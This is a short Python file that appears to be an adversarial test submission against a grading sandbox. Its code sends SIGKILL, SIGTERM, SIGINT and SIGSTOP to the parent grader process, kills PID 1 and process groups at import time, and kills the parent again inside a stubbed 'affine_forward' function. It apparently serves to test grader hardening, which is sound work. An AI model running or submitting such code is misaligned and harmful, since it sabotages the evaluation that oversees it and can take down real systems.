"""Attack: kill or stop the grader: signals to the parent process, its process group and every
process (kill -1), at import and in a call; and SIGSTOP to freeze it."""
import os
import signal

ppid = os.getppid()
for target, sig in ((ppid, signal.SIGKILL), (ppid, signal.SIGTERM), (ppid, signal.SIGINT),
                    (ppid, signal.SIGSTOP), (1, signal.SIGKILL)):
    try:
        os.kill(target, sig)
        print(f"SIGNALLED:{target}:{sig.name}")
    except OSError as exc:
        print(f"DENIED:{target}:{sig.name}:{exc.strerror}")
for pgid_of in (ppid, 0):
    try:
        os.killpg(os.getpgid(pgid_of), signal.SIGKILL) if pgid_of else None
    except OSError as exc:
        print(f"DENIED:pgid:{exc.strerror}")


def affine_forward(x, W, b):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
        print("SIGNALLED:parent in call")
    except OSError as exc:
        print(f"DENIED:call:{exc.strerror}")
    raise NotImplementedError("affine_forward")


def affine_backward(dout, cache):
    raise NotImplementedError("affine_backward")
